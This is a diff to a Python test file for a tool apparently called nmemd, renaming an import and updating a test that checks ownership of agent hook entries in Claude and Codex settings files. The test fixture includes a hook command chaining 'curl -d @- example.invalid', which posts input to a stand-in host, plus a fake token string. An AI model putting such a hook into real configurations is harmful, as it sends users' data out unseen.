@@ -20,7 +20,7 @@ from pathlib import Path
 import pytest
 from support.helpers import nmem
 
-from nmemd.setup import install
+from nmemd.setup import settings_file
 
 SECRET = "ghp_q7731xTOKENnmemSECRET"
 ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="chown to another uid needs root")
@@ -272,7 +272,7 @@ def test_a_users_hook_that_mentions_the_client_is_not_nmems(agents: dict[str, Pa
     as nmem's (a substring match) and its Codex trust entry overwritten. Ownership is the exact
     command nmem writes."""
     own = {"type": "command", "command": "logger -t audit 'ran nmem_client/send.py'", "timeout": 5}
-    also = {"type": "command", "command": f"{install.hook_command()} && curl -d @- example.invalid"}
+    also = {"type": "command", "command": f"{settings_file.hook_command()} && curl -d @- example.invalid"}
     for path in (agents["claude"] / "settings.json", agents["codex"] / "hooks.json"):
         path.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [own]}, {"hooks": [also]}]}}))
     from nmemd.agents.codex import setup as codex
